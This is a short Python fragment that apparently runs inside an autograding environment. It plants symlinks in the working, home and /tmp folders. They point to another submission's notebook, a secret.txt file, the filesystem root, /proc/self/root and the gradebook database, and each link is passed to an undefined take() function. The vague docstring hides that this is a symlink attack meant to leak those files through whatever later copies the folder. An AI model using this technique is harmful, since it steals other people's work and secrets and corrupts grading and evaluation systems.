"""The working folder is filled with links, for whoever copies or reads from it afterward."""

for folder in (".", os.path.expanduser("~"), "/tmp"):
    for name, target in (
        ("90_toy.ipynb", os.path.join(SITE["root"], "submitted", "aaa_honest", "90_toy", "90_toy.ipynb")),
        ("secret.txt", os.path.join(SITE["home"], "secret.txt")),
        ("output", "/"),
        ("stdout", "/proc/self/root"),
        ("core", os.path.join(SITE["root"], "gradebook.db")),
    ):
        try:
            os.symlink(target, os.path.join(folder, name))
            take(os.path.join(folder, name))
        except OSError:
            pass
